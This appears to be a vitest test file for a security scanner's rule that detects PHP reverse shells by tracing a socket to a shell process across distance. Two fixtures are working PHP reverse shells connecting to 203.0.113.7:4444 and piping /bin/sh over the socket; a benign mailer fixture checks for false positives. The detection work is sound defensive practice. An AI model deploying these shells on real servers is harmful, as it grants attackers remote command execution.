/**
 * A PHP reverse shell found by following its socket and its process through the variables
 * that hold them, however far apart they are (issue 27: a 300-character window missed a
 * well-known shell whose socket and process call are 398 characters apart).
 */
import { describe, expect, it } from 'vitest';
import { reverseShell } from '../../src/findings/content-rules.js';
import { addedFile } from '../support/change-facts.js';

const padding = (n: number) => `\n// ${'x'.repeat(n)}\n$banner = "ready";\n`;

describe('socket to process, by data flow', () => {
  it('finds a socket copied to a process through its pipes, 1,000 characters apart', () => {
    const text = `<?php
$ip = '203.0.113.7'; $port = 4444;
$sock = fsockopen($ip, $port, $errno, $errstr, 30);
${padding(1000)}
$spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
$process = proc_open('/bin/sh -i', $spec, $pipes);
while (!feof($sock)) {
  $input = fread($sock, 1400);
  fwrite($pipes[0], $input);
  fwrite($sock, fread($pipes[1], 1400));
}`;
    expect(reverseShell(addedFile('/var/www/html/x.php', text))).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/PHP connecting a socket to a shell/),
    });
  });

  it('finds a socket handed to a process as its streams, far from where it was opened', () => {
    const text = `<?php $s = stream_socket_client("tcp://203.0.113.7:4444");${padding(600)}
$d = [0 => $s, 1 => $s, 2 => $s];
proc_open("/bin/sh", $d, $p);`;
    expect(reverseShell(addedFile('/tmp/r.php', text))?.severity).toBe('critical');
  });

  it('leaves a mailer that opens a socket and a sendmail pipe, unconnected', () => {
    const text = `<?php
$smtp = fsockopen($host, 25);
fwrite($smtp, "HELO example.org\\r\\n");
${padding(600)}
$mail = popen('/usr/sbin/sendmail -t', 'w');
fwrite($mail, $headers . $body);
pclose($mail);`;
    expect(reverseShell(addedFile('/var/www/html/mail.php', text))).toBeUndefined();
  });
});
